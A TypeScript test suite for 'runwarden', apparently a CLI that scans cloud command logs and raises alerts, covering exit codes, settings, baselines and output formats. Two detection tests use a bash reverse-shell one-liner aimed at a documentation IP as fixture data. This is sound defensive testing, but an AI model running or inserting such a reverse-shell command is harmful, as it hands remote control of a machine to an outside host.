import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { nativeCommandEvent, sendCommandEvent } from '../../support/aws-events'
import { folderOf, runwarden } from '../../support/command-line'

const NO_LEARNING = { RUNWARDEN_LEARNING_DAYS: '0' }
const day = (number: number): string => `2026-03-${String(number).padStart(2, '0')}T10:00:00Z`
const record = (options: Parameters<typeof sendCommandEvent>[0]) => sendCommandEvent(options).detail

interface ScanJson {
  readonly schema: string
  readonly summary: Readonly<Record<string, number>>
  readonly alerts: readonly {
    readonly severity: string
    readonly repeats: number
    readonly activities: readonly string[]
    readonly findings: readonly { readonly rule: string }[]
    readonly command: { readonly text: string | null }
  }[]
}

const scanJson = async (
  words: readonly string[],
  environment = NO_LEARNING,
): Promise<ScanJson & { readonly code: number }> => {
  const { code, stdout } = await runwarden(['scan', '--format', 'json', ...words], environment)
  return { ...(JSON.parse(stdout) as ScanJson), code }
}

describe('scan', () => {
  const folder = folderOf({
    'first.json': { Records: [record({ time: day(1), eventId: 'e1' }), record({ time: day(1), eventId: 'e1' })] },
    'second.json': {
      Records: [
        record({ time: day(2), eventId: 'e2' }),
        record({
          time: '2026-03-02T10:05:00Z',
          eventId: 'e3',
          instances: ['i-0aaaaaaaaaaaaaaa1', 'i-0aaaaaaaaaaaaaaa2', 'i-0aaaaaaaaaaaaaaa3', 'i-0aaaaaaaaaaaaaaa4'],
        }),
      ],
    },
  })

  it('shows the alerts a person would have received and says what it counted', async () => {
    const { summary, alerts, schema, code } = await scanJson([folder])
    expect([code, schema, summary['records'], summary['merged'], summary['activities']]).toEqual([
      0,
      'runwarden.scan/1',
      4,
      1,
      3,
    ])
    expect(
      alerts.map(({ severity, findings }) => [severity, findings.map(({ rule }) => rule.split('.').at(-1))]),
    ).toEqual([
      ['medium', ['first-seen-caller', 'first-seen-caller-on-target']],
      ['medium', ['first-seen-caller-on-target', 'mass-execution']],
    ])
  })

  it.each([
    { name: 'nothing to fail on', words: ['--fail-on', 'high'], code: 0 },
    { name: 'an alert at the severity', words: ['--fail-on', 'medium'], code: 1 },
    {
      name: 'an alert below the minimum severity counts all the same',
      words: ['--fail-on', 'low', '--min-severity', 'critical'],
      code: 1,
    },
    { name: 'an unknown flag', words: ['--nonsense'], code: 2 },
    { name: 'an unknown format', words: ['--format', 'xml'], code: 2 },
    { name: 'html with activities', words: ['--format', 'html', '--emit', 'activities'], code: 2 },
    { name: 'a time without form', words: ['--since', 'yesterday'], code: 2 },
    { name: 'a time that is none', words: ['--until', '2026-13-01'], code: 2 },
    { name: 'an end before the beginning', words: ['--since', '2026-03-02', '--until', '2026-03-01'], code: 2 },
    { name: 'no jobs', words: ['--jobs', '0'], code: 2 },
    { name: 'a severity that is none', words: ['--fail-on', 'severe'], code: 2 },
    { name: 'a missing path', words: [join(folder, 'nowhere')], code: 2 },
  ])('exits $code for $name', async ({ words, code }) => {
    expect((await runwarden(['scan', folder, ...words], NO_LEARNING)).code).toBe(code)
  })

  it('exits 3 when some input could not be read, before 1, and reads the rest', async () => {
    const broken = folderOf({ 'good.json': { Records: [record({ time: day(1) })] }, 'bad.json': '{"Records":[' })
    const { code, stderr, stdout } = await runwarden(
      ['scan', '--format', 'jsonl', '--fail-on', 'low', broken],
      NO_LEARNING,
    )
    expect(code).toBe(3)
    expect(stderr).toContain('bad.json, byte')
    expect(stdout.trim().split('\n')).toHaveLength(1)
  })

  it.each([
    ['scan', ['scan', '--fail-on', 'low', '--format', 'html']],
    ['baseline build', ['baseline', 'build']],
  ])('%s says at once that its result cannot be written, and exits 2', async (_, words) => {
    const { code, stderr } = await runwarden(
      [...words, '--output', join(folder, 'nowhere', 'report'), folder],
      NO_LEARNING,
    )
    expect(code).toBe(2)
    expect(stderr).toMatch(/^--output: got ".*nowhere.report", expected a file in a folder that exists/)
    expect(stderr).toMatch(/ and may be written to \(nothing of this name\)\n$/)
  })

  it('writes the result to a file, over what was there', async () => {
    const file = join(folderOf({ 'report.txt': 'old and long '.repeat(10_000) }), 'report.txt')
    const { code, stdout } = await runwarden(['scan', '--output', file, folder], NO_LEARNING)
    expect([code, stdout]).toEqual([0, ''])
    expect(readFileSync(file, 'utf8')).toBe((await runwarden(['scan', folder], NO_LEARNING)).stdout)
  })

  it('names every wrong flag and setting at once, and scans nothing', async () => {
    const flags = [
      '--format',
      'xml',
      '--min-severity',
      'bad',
      '--since',
      'yesterday',
      '--until',
      '2026-02-30T10:00Z',
      '--jobs',
      '65',
      '--emit',
      'all',
    ]
    const { code, stderr, stdout } = await runwarden(['scan', ...flags, folder], { RUNWARDEN_WINDOW_MINUTES: 'soon' })
    expect(code).toBe(2)
    expect(stdout).toBe('')
    expect(
      stderr
        .trim()
        .split('\n')
        .map((line) => line.split(':')[0]),
    ).toEqual(['--format', '--min-severity', '--since', '--until', '--jobs', '--emit', 'RUNWARDEN_WINDOW_MINUTES'])
    expect(stderr).toContain('--format: got "xml", expected one of table, json, jsonl, html, ocsf\n')
  })

  it('names every wrong setting at once and exits 2', async () => {
    const { code, stderr } = await runwarden(['scan', folder], {
      RUNWARDEN_WINDOW_MINUTES: 'soon',
      RUNWARDEN_MASS_TARGETS: '0',
      RUNWARDEN_MASS_TARGET: '3',
    })
    expect(code).toBe(2)
    expect(stderr.trim().split('\n')).toHaveLength(3)
    expect(stderr).toContain('did you mean RUNWARDEN_MASS_TARGETS?')
  })

  it('ignores the environment when hermetic', async () => {
    expect((await runwarden(['scan', '--hermetic', folder], { RUNWARDEN_MASS_TARGETS: 'nonsense' })).code).toBe(0)
  })

  it('prefers flags to the file, and the file to the environment', async () => {
    const file = join(folderOf({ settings: 'RUNWARDEN_MASS_TARGETS=5\nRUNWARDEN_LEARNING_DAYS=0\n' }), 'settings')
    const { alerts } = await scanJson(['--env', file, folder], { RUNWARDEN_LEARNING_DAYS: '7' })
    expect(alerts.flatMap(({ findings }) => findings.map(({ rule }) => rule))).not.toContain(
      'runwarden.cloud.mass-execution',
    )
  })

  it('lets what came before --since teach without being reported, and stops at --until', async () => {
    const { alerts, summary } = await scanJson(['--since', '2026-03-02', '--until', '2026-03-02T10:05:00Z', folder])
    expect([summary['activities'], alerts]).toEqual([1, []])
  })

  it('is informational while it learns', async () => {
    const { alerts } = await scanJson([folder], { RUNWARDEN_LEARNING_DAYS: '7' })
    expect(alerts.map(({ findings }) => findings.at(-1)?.rule)).toEqual(['runwarden.cloud.mass-execution'])
  })

  it('finds the text of a command in the native event, wherever it lies', async () => {
    const commandId = '00000000-0000-0000-0000-0000000000c1'
    const logs = folderOf({
      'a-native.json': nativeCommandEvent(commandId, ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']),
      'b-call.json': { Records: [record({ commandId })] },
    })
    const { alerts } = await scanJson([logs])
    expect(alerts.map(({ severity, command }) => [severity, command.text])).toEqual([
      [expect.stringMatching(/high|critical/), 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
    ])
  })

  it('gives the same bytes for files in any order and read twice', async () => {
    const names = ['a', 'b', 'c']
    const records = [1, 2, 3].map((number) => ({
      Records: [record({ time: day(number), eventId: `x${number}`, role: `Role${number}` })],
    }))
    const straight = folderOf(Object.fromEntries(records.map((content, place) => [`${names[place]}.json`, content])))
    const turned = folderOf(
      Object.fromEntries([...records.toReversed(), ...records].map((content, place) => [`${place}.json`, content])),
    )
    const lines = async (path: string): Promise<string> =>
      (await runwarden(['scan', '--emit', 'activities', '--format', 'jsonl', path], NO_LEARNING)).stdout
    expect(await lines(turned)).toBe(await lines(straight))
  })

  it('reads standard input', async () => {
    const { code, stdout } = await runwarden(
      ['scan', '--format', 'jsonl', '-'],
      NO_LEARNING,
      JSON.stringify(record({ time: day(1) })),
    )
    expect([code, stdout.trim().split('\n').length]).toEqual([0, 1])
  })

  it('writes one page of HTML to a file', async () => {
    const file = join(folderOf({}), 'report.html')
    const { code, stdout } = await runwarden(['scan', '--format', 'html', '--output', file, folder], NO_LEARNING)
    expect([code, stdout, readFileSync(file, 'utf8').startsWith('<!doctype html>')]).toEqual([0, '', true])
  })
})

describe('baseline', () => {
  it('carries what one scan learned into the next', async () => {
    const old = folderOf({ 'old.json': { Records: [record({ time: day(1), eventId: 'old' })] } })
    const next = folderOf({ 'next.json': { Records: [record({ time: day(2), eventId: 'next' })] } })
    const file = join(folderOf({}), 'usual.json')
    expect((await runwarden(['baseline', 'build', '--output', file, old])).code).toBe(0)
    expect((await scanJson([next])).alerts).toHaveLength(1)
    expect((await scanJson(['--baseline', file, next])).alerts).toHaveLength(0)
  })

  it('withholds what was rated high until somebody approves it', async () => {
    const commandId = '00000000-0000-0000-0000-0000000000c7'
    const call = record({ time: day(1), eventId: 'bad', commandId })
    const old = folderOf({
      'call.json': { Records: [call] },
      'native.json': nativeCommandEvent(commandId, ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'], day(1)),
    })
    const next = folderOf({ 'next.json': { Records: [record({ time: day(2), eventId: 'next' })] } })
    const file = join(folderOf({}), 'usual.json')
    await runwarden(['baseline', 'build', '--output', file, old])
    expect((await scanJson(['--baseline', file, next])).alerts).toHaveLength(1)
    expect((await runwarden(['baseline', 'approve', file])).stdout).toContain('bad')
    expect((await runwarden(['baseline', 'approve', file, 'bad'])).code).toBe(0)
    expect((await scanJson(['--baseline', file, next])).alerts).toHaveLength(0)
    expect((await runwarden(['baseline', 'approve', file, 'bad'])).code).toBe(2)
  })
})

describe('explain, rules, config and render', () => {
  const folder = folderOf({ 'one.json': { Records: [record({ time: day(1), eventId: 'e9' })] } })

  it('says why each rule fired or not', async () => {
    const { code, stdout } = await runwarden(['explain', 'e9', folder], NO_LEARNING)
    expect(code).toBe(0)
    expect(stdout).toMatch(/fired +runwarden\.cloud\.first-seen-caller /)
    expect(stdout).toMatch(/silent +runwarden\.cloud\.mass-execution/)
    expect(stdout).toContain('massTargets = 3')
  })

  it('says when there is no such activity', async () => {
    expect((await runwarden(['explain', 'nobody', folder])).code).toBe(2)
  })

  it('lists rules and shows all about one', async () => {
    expect((await runwarden(['rules'])).stdout.trim().split('\n').length).toBeGreaterThanOrEqual(13)
    expect((await runwarden(['rules', 'mass-execution'])).stdout).toContain('Misses')
    expect((await runwarden(['rules', 'no-such-rule'])).code).toBe(2)
  })

  it('prints effective settings with their origin', async () => {
    const { code, stdout } = await runwarden(['config'], { RUNWARDEN_PRESET: 'quiet', RUNWARDEN_HISTORY_DAYS: '14' })
    expect(code).toBe(0)
    expect(stdout).toMatch(/RUNWARDEN_HISTORY_DAYS +14 +environment/)
    expect(stdout).toMatch(/RUNWARDEN_MIN_SEVERITY +"high" +preset/)
    expect(stdout).toMatch(/RUNWARDEN_WINDOW_MINUTES +60 +default/)
    expect((await runwarden(['config'], { RUNWARDEN_PRESET: 'loud' })).code).toBe(2)
  })

  it('previews the sample alert and a real one in every format', async () => {
    for (const format of ['mail', 'json', 'chat', 'ocsf', 'asff']) {
      expect((await runwarden(['render', '--format', format])).stdout.length).toBeGreaterThan(200)
      expect((await runwarden(['render', 'e9', folder, '--format', format], NO_LEARNING)).stdout).toContain('Deploy')
    }
  })
})
